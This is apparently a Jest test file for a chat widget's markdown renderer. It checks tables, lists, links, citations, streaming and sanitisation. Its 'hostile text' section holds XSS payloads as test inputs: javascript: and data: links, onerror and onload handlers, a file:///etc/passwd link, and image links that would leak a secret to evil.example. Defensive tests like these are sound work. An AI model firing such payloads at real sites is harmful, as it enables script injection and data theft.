/** @jest-environment jsdom */
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Source } from '../server/contract/chat.ts';
import { createMarkdown } from './markdown.ts';
import { escapeMarkdown } from './parse-markdown.ts';
import { englishStrings } from './strings.ts';
import { source } from '../test/widget/browser.ts';

const copyCode = () => document.createElement('button');

function view() {
  const root = document.createElement('div');
  return { root, render: createMarkdown(root, englishStrings, copyCode, 'tip') };
}

const everyNode = new Set(['dir', 'target', 'rel']);

/** As markup, without what every node or link has: the tables below show what matters. */
function plain(root: Node): string {
  return [...root.childNodes]
    .map((node) => {
      if (!(node instanceof Element)) return node.textContent ?? '';
      if (node.className === 'spoken') return '';
      const name = node.localName;
      const attributes = [...node.attributes].filter((attribute) => !everyNode.has(attribute.name));
      const shown = attributes
        .map((attribute) => ` ${attribute.name}="${attribute.value}"`)
        .join('');
      const end =
        node instanceof HTMLHRElement || node instanceof HTMLBRElement ? '' : `</${name}>`;
      return `<${name}${shown}>${plain(node)}${end}`;
    })
    .join('');
}

function html(text: string, sources: readonly Source[] = [], partial = false): string {
  const { root, render } = view();
  render(text, sources, partial);
  return plain(root);
}

test.each([
  // Cells with numbers alone have none.
  ['table,th,td', '| اليوم | الوقت |\n|---|---|\n| الاثنين | 10:00 – 17:30 |', 'auto,,,,'],
  // It decides where the markers stand.
  ['ol,ul,li', '1. one\n2. two\n   - three', 'auto,,,auto,'],
])('%s: the whole has the direction of its first words', (parts, text, directions) => {
  const { root, render } = view();
  render(text, [], false);
  const nodes = [...root.querySelectorAll(parts)];
  expect(nodes.map((node) => node.getAttribute('dir')).join()).toBe(directions);
});

describe('blocks', () => {
  test.each([
    ['paragraphs and line breaks', 'a\nb\n\nc', '<p>a<br>b</p><p>c</p>'],
    ['headings of two sizes', '# A\n###### B ##\n#C', '<h3>A</h3><h4>B</h4><p>#C</p>'],
    ['a task', '- [x] a', '<ul><li><span class="done" part="done">✓</span>a</li></ul>'],
    [
      'a frequent question before its answer',
      '**Dogs?** Yes.\n\n**No:** a?',
      '<p><strong class="asked">Dogs?</strong> Yes.</p><p><strong>No:</strong> a?</p>',
    ],
    ['a rule', 'a\n\n---\n***\n', '<p>a</p><hr><hr>'],
    ['a quote with a list', '> a\n> - b', '<blockquote><p>a</p><ul><li>b</li></ul></blockquote>'],
    [
      'a quote with paragraphs and steps',
      '> a\n> b\n>\n> c **d.** e\n>\n> 1. f\n> 2. **g**',
      '<blockquote><p>a<br>b</p><p>c <strong>d.</strong> e</p><ol start="1"><li>f</li><li><strong>g</strong></li></ol></blockquote>',
    ],
    [
      'a quote with a table',
      '> a\n>\n> | b |\n> | --- |\n> | **c** |',
      '<blockquote><p>a</p><div class="table" part="table" tabindex="0"><table><tr><th>b</th></tr><tr><td><strong>c</strong></td></tr></table></div></blockquote>',
    ],
    ['a list of two levels', '- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
    [
      'an ordered list that goes on after a blank line',
      '3. a\n\n4. b',
      '<ol start="3"><li>a</li><li>b</li></ol>',
    ],
    ['bullets below a number', '1. a\n   * b', '<ol start="1"><li>a<ul><li>b</li></ul></li></ol>'],
    ['a second paragraph of an item', '- a\n\n  b', '<ul><li>a<p>b</p></li></ul>'],
    ['a line that goes on', '- a\nb', '<ul><li>a<br>b</li></ul>'],
    ['another kind of list', '- a\n1. b', '<ul><li>a</li></ul><ol start="1"><li>b</li></ol>'],
    ['a list after a line', 'a:\n- b', '<p>a:</p><ul><li>b</li></ul>'],
    ['a year is no list', 'since\n2024. Then', '<p>since<br>2024. Then</p>'],
    ['stars that are no list', '*a* b', '<p><em>a</em> b</p>'],
  ])('%s', (_, text, expected) => {
    expect(html(text)).toBe(expected);
  });

  test('a fence keeps its text, with a header for its language', () => {
    const { root, render } = view();
    render('```js x\n<b>1</b>\n  **2**\n```\nafter', [], false);
    expect(root.querySelector('.code-header')?.textContent).toBe('js');
    expect(root.querySelector('pre code')?.textContent).toBe('<b>1</b>\n  **2**');
    expect(root.lastElementChild?.tagName).toBe('P');
    expect(root.lastElementChild?.textContent).toBe('after');
  });

  test.each([
    ['without its end', '```\na\n\n# b', 'a\n\n# b'],
    ['of tildes, with backticks inside', '~~~\n```\n~~~', '```'],
    ['longer than what is inside', '````\n```\n````', '```'],
    ['indented, in a list', '- a\n  ```\n    b\n  ```', '  b'],
  ])('a fence %s', (_, text, code) => {
    const { root, render } = view();
    render(text, [], false);
    expect(root.querySelector('pre')?.textContent).toBe(code);
  });

  test('a table with alignment, short and long rows, and escaped pipes', () => {
    const { root, render } = view();
    render('| A | B |\n|:-:|--:|\n| **1** | x \\| y | z |\n| 2 |\nnot a row', [], false);
    const rows = [...root.querySelectorAll('tr')].map((row) =>
      [...row.children].map((cell) => `${cell.tagName} ${cell.textContent}`),
    );
    expect(rows).toEqual([
      ['TH A', 'TH B'],
      ['TD 1', 'TD x | y'],
      ['TD 2', 'TD '],
    ]);
    expect(root.querySelector('td')?.style.textAlign).toBe('center');
    expect(root.querySelector('td strong')?.textContent).toBe('1');
    expect(root.lastElementChild?.textContent).toBe('not a row');
  });

  test('a line break in a cell', () => {
    const { root, render } = view();
    render('| Day | Hours |\n|---|---|\n| Mon | 9–12<br>14–17 |', [], false);
    const cell = root.querySelector('tr:last-child td:last-child');
    expect([cell?.textContent, cell?.querySelectorAll('br').length]).toEqual(['9–1214–17', 1]);
  });
});

describe('inline', () => {
  test.each([
    ['**a** *b* ***c***', '<strong>a</strong> <em>b</em> <strong><em>c</em></strong>'],
    ['__a__ _b_ ~~c~~', '<strong>a</strong> <em>b</em> <del>c</del>'],
    ['**a *b* c**', '<strong>a <em>b</em> c</strong>'],
    ['2 * 3 * 4 and snake_case_name', '2 * 3 * 4 and snake_case_name'],
    ['**a and *b', '**a and *b'],
    ['*a **b* c', '<em>a **b</em> c'],
    ['*a **b** c*', '<em>a <strong>b</strong> c</em>'],
    ['~a~ ****', '~a~ ****'],
    ['`a` ``b ` c`` ` d', '<code>a</code> <code>b ` c</code> ` d'],
    ['\\*a\\* \\[1]', '*a* [1]'],
    ['**日本**語', '<strong>日本</strong>語'],
    ['9–12<br>14–17<br/>20 <BR />', '9–12<br>14–17<br>20 <br>'],
    [
      'H<sub>2</sub>O, 5 m<sup>2</sup>, 3 m<sup>2</sup>',
      'H<sub>2</sub>O, 5 m<sup>2</sup>, 3 m<sup>2</sup>',
    ],
    ['<b>a <i>b</i></b> <B>c</b>', '<b>a <i>b</i></b> <b>c</b>'],
    ['a <b>b **c', 'a <b>b **c'],
    ['<u>a</u> </b> <sub class="x">', '<u>a</u> </b> <sub class="x">'],
    ['Fish &amp; chips 12&nbsp;€ &ndash; 9&#8211;17', 'Fish & chips 12\u00a0€ – 9–17'],
    ['&unknown; AT&T; &toString; &#0; &#55357; &', '&unknown; AT&T; &toString; &#0; &#55357; &'],
    ['The area is \\(a^2\\).', 'The area is (a^2).'],
    ['`&amp;<br>`', '<code>&amp;<br></code>'],
  ])('%s', (text, expected) => {
    expect(html(text)).toBe(`<p>${expected}</p>`);
  });
});

describe('links', () => {
  test('open apart from the page and tell the target nothing', () => {
    const { root, render } = view();
    render('[a **b**](https://example.org/x_(y) "title")', [], false);
    const link = root.querySelector('a');
    expect(link?.href).toBe('https://example.org/x_(y)');
    expect(link?.rel).toBe('noopener nofollow');
    expect(link?.target).toBe('_blank');
    expect(link?.textContent).toBe('a b (opens in a new tab)');
  });

  test.each([
    ['see https://example.org/a_b?c=d.', 'https://example.org/a_b?c=d'],
    ['(https://example.org/x)', 'https://example.org/x'],
    ['**https://example.org/**', 'https://example.org/'],
    ['https://example.org/a_(b)!', 'https://example.org/a_(b)'],
    ['https://example.org/x[1]', 'https://example.org/x'],
    ['见https://example.org/x。', 'https://example.org/x'],
    ['[mail](mailto:info@example.org)', 'mailto:info@example.org'],
    ['[here](/contact)', 'http://localhost/contact'],
    ['[call](tel:+49555100)', 'tel:+49555100'],
    ['<https://example.org/a>.', 'https://example.org/a'],
  ])('%s', (text, href) => {
    const { root, render } = view();
    render(text, [source], false);
    expect(root.querySelector('a')?.href).toBe(href);
  });
});

test.each([
  ['[mail](mailto:info@example.org)', false],
  ['[call](tel:+49555100)', false],
  ['[away](https://example.org/)', true],
])('%s opens a tab: %s', (text, expected) => {
  const { root, render } = view();
  render(text, [], false);
  expect(root.querySelector('a')?.target).toBe(expected ? '_blank' : '');
  expect(root.textContent?.includes('new tab')).toBe(expected);
});

test('an address in angles is shown without them, a number is no link by itself', () => {
  expect(html('<https://example.org/a>')).toBe(
    '<p><a href="https://example.org/a">https://example.org/a</a></p>',
  );
  expect(html('Call +49 555 100.')).toBe('<p>Call +49 555 100.</p>');
});

describe('citations', () => {
  test('each mark opens its own statement; one inside a link is no mark', () => {
    const { root, render } = view();
    const statements = ['a', 'b', 'c'].map((text) => ({
      n: 1,
      text,
      url: `https://example.org/#${text}`,
    }));
    render('One [1].\n\n- Two [1]\n- Three [1]', [source], true, statements);
    render('One [1].\n\n- Two [1]\n- Three [1]\n- Four [1] and [1]', [source], false, statements);
    const opened = [...root.querySelectorAll('sup a')].map((mark) => mark.getAttribute('href'));
    expect(opened).toEqual([...statements.map(({ url }) => url), source.passage_url]);
  });

  test('a mark links to its source, with title and excerpt for its card', () => {
    expect(html('Yes [1].', [source])).toBe(
      '<p>Yes\u2060<sup><a href="https://example.org/hours/#:~:text=Open" ' +
        'data-tip="Opening hours" data-text="Open daily." ' +
        'aria-label="Source 1: Opening hours, opens in a new tab" aria-describedby="tip">1</a></sup>.</p>',
    );
  });

  test.each([
    ['a number without a source is text', 'a [2]', false, '<p>a [2]</p>'],
    [
      'but may yet get one while it streams',
      'a [2]',
      true,
      '<p>a\u2060<sup><span>2</span></sup></p>',
    ],
    [
      'a link is not a mark',
      '[1](https://example.org/)',
      false,
      '<p><a href="https://example.org/">1</a></p>',
    ],
    [
      'neither is one inside a link',
      '[a [1]](https://example.org/)',
      false,
      '<p><a href="https://example.org/">a [1]</a></p>',
    ],
    ['nor one in code', '`[1]`', false, '<p><code>[1]</code></p>'],
  ])('%s', (_, text, partial, expected) => {
    expect(html(text, [source], partial)).toBe(expected);
  });

  test('a source with an address that may not be opened is no link', () => {
    const hostile = {
      ...source,
      url: 'javascript:alert(1)',
      passage_url: undefined,
    } as unknown as Source;
    expect(html('[1]', [hostile])).toBe(
      '<p><sup><span data-tip="Opening hours" data-text="Open daily.">1</span></sup></p>',
    );
  });
});

const allowedTags = new Set(
  'P H3 HR BLOCKQUOTE UL OL LI DIV PRE CODE TABLE TR TH TD STRONG EM B I DEL SUB SUP A SPAN BR BUTTON'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'dir start class part tabindex href target rel title aria-label aria-describedby data-tip data-text style'.split(
    ' ',
  ),
);

function expectHarmless(root: HTMLElement): void {
  for (const node of root.querySelectorAll('*')) {
    expect(allowedTags).toContain(node.tagName);
    for (const { name } of node.attributes) expect(allowedAttributes).toContain(name);
    if (node instanceof HTMLAnchorElement) expect(node.href).toMatch(/^(https?|mailto|tel):/);
  }
}

describe('hostile text', () => {
  test.each([
    '<img src=x onerror=alert(1)>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert%281%29)',
    '[a](java\tscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](<javascript:alert(1)>)',
    '[a]("onmouseover="alert(1))',
    '![x](https://evil.example/?q=secret)',
    '[![x](https://evil.example/a.png)](https://evil.example/)',
    '> - **[`<b>`](javascript:1)**\n>   ```html\n>   <iframe>',
    '| <svg onload=alert(1)> |\n|---|\n| [x](file:///etc/passwd) |',
    '<https://example.org/"onclick="alert(1)>',
    '\0<b>\u202e[a](javascript:alert(1))',
  ])('%s', (text) => {
    const { root, render } = view();
    for (const partial of [true, false]) {
      render(text, [], partial);
      expectHarmless(root);
      expect(root.querySelector('img, script, svg, iframe')).toBeNull();
    }
  });

  test('an image is a link, which nothing loads', () => {
    expect(html('![map](https://example.org/m.png)')).toBe(
      '<p><a href="https://example.org/m.png">map</a></p>',
    );
    expect(html('![](https://example.org/m.png)')).toBe(
      '<p><a href="https://example.org/m.png">https://example.org/m.png</a></p>',
    );
  });

  const piece = fc.constantFrom(
    ...'* ** _ ~~ ` ``` [ ] ]( ( ) ! < > | --- |-|-| [1] a https://x.y \\ é 😀'.split(' '),
    ...['\n', '\n\n', '- ', '1. ', '  ', '> ', '# ', 'b c'],
    ...['javascript:x', '<img src=x>', 'data:,'],
    ...['<br>', '<sub>', '</sub>', '<b>', '</b>', '&amp;', '&#106;'],
  );
  const text = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));

  test('any text gives only harmless nodes', () => {
    fc.assert(
      fc.property(text, fc.boolean(), (markdown, partial) => {
        const { root, render } = view();
        render(markdown, [source], partial);
        expectHarmless(root);
      }),
      { numRuns: 300 },
    );
  });

  test('an escaped line is shown as it is', () => {
    const line = fc
      .array(fc.constantFrom(...'*_~`&;<>b/\\ax1.#-+)', '&amp;', '<b>', '~~', '](x.y)'), {
        minLength: 1,
      })
      .map((pieces) => `a${pieces.join('')}a`);
    fc.assert(
      fc.property(line, (text) => {
        const { root, render } = view();
        render(escapeMarkdown(text), [], false);
        expect(root.textContent).toBe(text);
      }),
    );
  });

  const none: Source[] = [];

  test('a text that came bit by bit ends as if it had come at once', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(60), { maxLength: 5 }), (markdown, cuts) => {
        const { root, render } = view();
        for (const cut of cuts.sort((a, b) => a - b)) render(markdown.slice(0, cut), none, true);
        render(markdown, [source], false);
        expect(plain(root)).toBe(html(markdown, [source]));
      }),
      { numRuns: 300 },
    );
  });
});

test('a number and its currency stay together, and so does a cell with little more', () => {
  expect(html('From 7,00 € or € 5, 20 % less [1].', [source])).toContain(
    'From 7,00\u00a0€ or €\u00a05, 20\u00a0% less',
  );
  const { root, render } = view();
  render('| Day | Price |\n|---|---|\n| After 18:00 on Thursdays | 7,00 € [1] |', [source], false);
  const wraps = [...root.querySelectorAll<HTMLElement>('td')].map(({ style }) => style.whiteSpace);
  expect(wraps).toEqual(['', 'nowrap']);
});

describe('while it streams', () => {
  test('the head of a table is held back until it is one', () => {
    const { root, render } = view();
    const head = 'Prices:\n| Ticket | Price |';
    render(head, [], true);
    expect(root.textContent).toBe('Prices:');
    render(`${head}\n| --- | --- |\n`, [], true);
    expect(root.textContent).toBe('Prices:TicketPrice');
    render('A | B', [], false);
    expect(root.textContent).toBe('A | B');
  });

  test.each([
    ['bold that is still open is bold', 'a **b c', '<p>a <strong>b c</strong></p>'],
    ['a star may yet be a list or a product', 'a *b', '<p>a *b</p>'],
    ['code that is still open is code', 'a `b', '<p>a <code>b</code></p>'],
    ['nothing follows yet', 'a **', '<p>a **</p>'],
  ])('%s', (_, text, expected) => {
    expect(html(text, [], true)).toBe(expected);
  });

  test('only the last block is built again', () => {
    const { root, render } = view();
    const sources: Source[] = [];
    render('First.\n\nSec', sources, true);
    render('First.\n\nSecond **par', sources, true);
    const [first] = root.children;
    render('First.\n\nSecond **part**\n\n- list', sources, true);
    expect(root.children[0]).toBe(first);
    expect(plain(root)).toBe(
      '<p>First.</p><p>Second <strong>part</strong></p><ul><li>list</li></ul>',
    );
  });
});
